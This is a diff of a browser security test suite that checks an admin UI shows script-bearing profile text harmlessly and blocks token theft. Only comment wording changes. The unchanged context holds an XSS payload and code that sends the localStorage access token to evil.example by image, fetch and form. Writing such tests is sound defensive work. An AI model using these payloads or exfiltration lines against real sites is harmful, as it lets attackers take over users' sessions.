@@ -4,7 +4,7 @@ import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { openBrowser } from '../dev/browser.ts'
 import { newOperator, type RelayProcess, startRelay } from './world.ts'
 
-/** Attacks on who is signed in, tried in the browser against the real relay. */
+/** Attacks on signed-in users, in the browser against the real relay. */
 
 const operator = newOperator()
 const script = `<img src=x onerror="document.title='owned'"><script>document.title='owned'</script>`
@@ -25,7 +25,7 @@ async function post(path: string, body: object, token?: string): Promise<never> 
   return (await answer.json()) as never
 }
 
-/** Puts a session into the browser, as whoever can write its storage might. */
+/** Puts a session into the browser, as an attacker with access to its storage might. */
 const plant = (token: string, user: object) =>
   page.evaluate(
     ([token, user]) => {
@@ -91,7 +91,7 @@ test('token theft by a script in a profile or a reason: it is shown as text, on 
   await page.goto(`${relay.adminUrl}/auth/lock`)
   await page.getByText(script).filter({ visible: true }).first().waitFor()
   expect(await page.title()).not.toBe('owned')
-  // As if it had come into the page as markup after all.
+  // As if it had entered the page as markup after all.
   const refused = await page.evaluate(
     markup =>
       new Promise<string[]>(resolve => {
@@ -108,7 +108,7 @@ test('token theft by a script in a profile or a reason: it is shown as text, on 
         const foreign = document.createElement('img')
         foreign.src = `https://evil.example/?${localStorage.getItem('accessToken')}`
         place.append(foreign)
-        // By what a script could send, had one run.
+        // The ways in which a script could send data, had one run.
         fetch(foreign.src).catch(() => undefined)
         const form = document.createElement('form')
         form.action = foreign.src
